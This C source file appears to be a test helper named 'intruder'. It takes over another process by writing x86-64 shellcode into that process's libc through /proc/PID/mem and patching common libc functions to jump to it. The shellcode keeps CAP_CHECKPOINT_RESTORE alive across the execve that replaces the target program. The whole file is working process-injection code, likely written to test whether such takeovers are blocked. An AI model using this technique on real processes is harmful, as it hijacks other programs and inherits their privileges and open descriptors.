/*
 * intruder: takes over a process that it may write into, and is the program which that process then executes. It lies in a
 * directory of its own, with the files that it uses; x86-64 only.
 *
 *   intruder hold      daemonizes with `mem` and `maps` of its directory open, and prints its pid. When `go` exists, it takes the
 *                      first for /proc/PID/mem and the second for /proc/PID/maps: it writes code that executes this file to the
 *                      place of the C library, and reports in `result` how far it came.
 *   intruder           the executed program: sends `reply` on descriptor 3, if there is that file; leaves a child behind, whose
 *                      pid is in `taken`, and exits.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdarg.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include "daemonize.h"

static char self[4096], directory[4096];

static const char *in_directory(const char *name)
{
	static char path[8192];

	snprintf(path, sizeof(path), "%s/%s", directory, name);
	return path;
}

/* Creates a file that appears with its full content. */
static void leave(const char *name, const char *format, ...)
{
	char temporary[8192 + 8];
	va_list values;
	FILE *file;

	snprintf(temporary, sizeof(temporary), "%s.new", in_directory(name));
	if (!(file = fopen(temporary, "w")))
		_exit(1);
	va_start(values, format);
	vfprintf(file, format, values);
	va_end(values);
	fclose(file);
	rename(temporary, in_directory(name));
}

#ifdef __x86_64__
/*
 * Makes CAP_CHECKPOINT_RESTORE, if it is permitted, inheritable and ambient, so that it outlives execve(2); then executes PATH,
 * which follows the code, with its name as the only argument. Needs no particular registers or stack.
 */
__asm__(".pushsection .rodata\n"
	"code_begin:\n"
	"	lea header(%rip), %rdi\n"
	"	lea data(%rip), %rsi\n"
	"	mov $126, %eax\n" /* capset */
	"	syscall\n"
	"	mov $47, %edi\n" /* PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE */
	"	mov $2, %esi\n"
	"	mov $40, %edx\n"
	"	xor %r10d, %r10d\n"
	"	xor %r8d, %r8d\n"
	"	mov $157, %eax\n" /* prctl */
	"	syscall\n"
	"	xor %edx, %edx\n"
	"	push %rdx\n"
	"	lea code_end(%rip), %rdi\n"
	"	push %rdi\n"
	"	mov %rsp, %rsi\n"
	"	mov $59, %eax\n" /* execve */
	"	syscall\n"
	"header: .long 0x20080522, 0\n" /* _LINUX_CAPABILITY_VERSION_3 */
	"data: .long 0, 0, 0, 0x100, 0x100, 0x100\n"
	"code_end:\n"
	".popsection\n");
#else
__asm__("code_begin: code_end:\n");
#endif
extern const char code_begin[], code_end[];

/* The address of the C library in a process, by its maps. */
static uintptr_t library_in(int maps)
{
	static char text[1 << 20];
	ssize_t size = 0, more;
	char *line;

	while ((more = pread(maps, text + size, sizeof(text) - 1 - size, size)) > 0)
		size += more;
	text[size] = 0;
	for (line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
		unsigned long begin, offset;

		if (strstr(line, "/libc.so.6") && sscanf(line, "%lx-%*x %*s %lx", &begin, &offset) == 2 && offset == 0)
			return begin;
	}
	return 0;
}

/* Functions of the C library that every program calls soon, and that return without waiting. */
static const char *const called[] = { "write", "close", "fcntl", "vsnprintf" };

static void write_into(int mem, int maps)
{
	uintptr_t own, other = library_in(maps), malloc_there;
	unsigned char code[8192];
	size_t size = code_end - code_begin, i;
	int own_maps = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);

	if (!other) {
		leave("result", "no library in the maps: %s\n", strerror(errno));
		return;
	}
	own = library_in(own_maps);
	memcpy(code, code_begin, size);
	strcpy((char *)code + size, self);
	malloc_there = (uintptr_t)dlsym(RTLD_DEFAULT, "malloc") - own + other;
	if (pwrite(mem, code, size + strlen(self) + 1, malloc_there) < 0) {
		leave("result", "not written: %s\n", strerror(errno));
		return;
	}
	for (i = 0; i < sizeof(called) / sizeof(*called); i++) {
		uintptr_t there = (uintptr_t)dlsym(RTLD_DEFAULT, called[i]) - own + other;
		/* jmp malloc */
		int32_t distance = malloc_there - (there + 5);
		unsigned char jump[5] = { 0xe9 };

		memcpy(jump + 1, &distance, sizeof(distance));
		pwrite(mem, jump, sizeof(jump), there);
	}
	leave("result", "written\n");
}

static int hold(void)
{
	int mem, maps;

	daemonize();
	mem = open(in_directory("mem"), O_RDWR);
	maps = open(in_directory("maps"), O_RDONLY);
	if (mem < 0 || maps < 0)
		return 1;
	ready();
	while (access(in_directory("go"), F_OK))
		usleep(1000);
	write_into(mem, maps);
	for (;;)
		pause();
}

static int holds_capability(void)
{
	struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct data[2] = { 0 };

	return syscall(SYS_capget, &header, data) == 0 && (data[1].permitted & 1 << (CAP_CHECKPOINT_RESTORE - 32)) != 0;
}

/* The former program is gone, except for its descriptors and its credentials. */
static int taken(void)
{
	static char reply[1 << 16];
	int fd = open(in_directory("reply"), O_RDONLY | O_CLOEXEC);
	ssize_t size = fd < 0 ? 0 : read(fd, reply, sizeof(reply));
	pid_t pid = fork();

	if (pid == 0) {
		close_range(0, ~0U, 0);
		setsid();
		for (;;)
			pause();
	}
	leave("holds", "%d\n", holds_capability());
	leave("taken", "%d\n", (int)pid);
	if (size > 0)
		send(3, reply, size, MSG_NOSIGNAL);
	return 0;
}

int main(int argc, char **argv)
{
	ssize_t length = readlink("/proc/self/exe", self, sizeof(self) - 1);

	if (length < 0)
		return 1;
	strcpy(directory, self);
	*strrchr(directory, '/') = 0;
	if (argc == 2 && strcmp(argv[1], "hold") == 0)
		return hold();
	return taken();
}
